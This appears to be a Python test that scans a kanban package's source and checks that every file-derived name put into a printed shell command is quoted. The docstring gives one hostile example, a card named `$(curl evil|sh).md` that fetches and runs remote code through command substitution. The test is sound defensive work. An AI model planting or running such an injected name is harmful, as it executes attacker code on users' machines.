"""What is printed to be typed is safe to be pasted: a name in it that came from a file stands in quotes where it must.

A card may be called `$(curl evil|sh).md`: whoever pastes the cure of a finding would run it.
"""

from __future__ import annotations

import ast
import re
from collections.abc import Iterator
from pathlib import Path

import kanban as package

SOURCES = Path(package.__file__).parent
VERB = re.compile(r"kanban [a-z]+(?: [^`{}]*)?$")
"""A command that has begun and that nothing has ended yet."""
QUOTED = ("quote(", "shlex.quote(", "shlex.join(", "typed(", "_quoted(")
PLAIN = {
    "columns", "field", "example", "requirement.id", "requirement.field", "tick", "target", "target.key", "key",
    "negotiation.key", "meeting.key", "room.column.key", "offer.key", "standard", "today.isoformat()", "left[0]",
    "source", "step.source", "name", "way", "max(1, (limit or count) - 1)", "' '.join(fields)", "'|'.join(SCRIPTS)", "why", "moved", "values", "free", "option",
    "first.column", "when.day.isoformat()", "context.today.isoformat()", "plain_name(card.id)", "BOARD_FILE",
    "choice_said('meeting-reminder')", "choice_said('price-objection')",
    "' '.join((f'{key}={_(_EXAMPLES.get(key, '…'))}' for key in keys))",
}  # fmt: skip
"""Keys, days and numbers that the board's own settings check, and names that are quoted where they are made."""


def _pasted(tree: ast.AST) -> Iterator[tuple[int, str]]:
    """Line and expression of each value put into a command."""
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            before = ""
            for part in node.values:
                if isinstance(part, ast.FormattedValue):
                    if VERB.search(before.rpartition("`")[2] if before.count("`") % 2 else before):
                        yield node.lineno, ast.unparse(part.value)
                    before += "…"
                else:
                    before += str(ast.literal_eval(part))
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "format":
            text = next((one.value for one in ast.walk(node.func.value) if isinstance(one, ast.Constant)), "")
            given = {one.arg: ast.unparse(one.value) for one in node.keywords}
            for command in re.findall(r"`(kanban [^`]*)`", str(text)):
                for name in re.findall(r"\{(\w+)\}", command):
                    yield node.lineno, given.get(name, name)


def test_no_name_is_pasted_bare_into_a_command() -> None:
    bare = [
        f"{path.relative_to(SOURCES)}:{line}: {value}"
        for path in sorted(SOURCES.rglob("*.py"))
        for line, value in _pasted(ast.parse(path.read_text(encoding="utf-8")))
        if not value.startswith(QUOTED) and value not in PLAIN
    ]
    assert bare == []
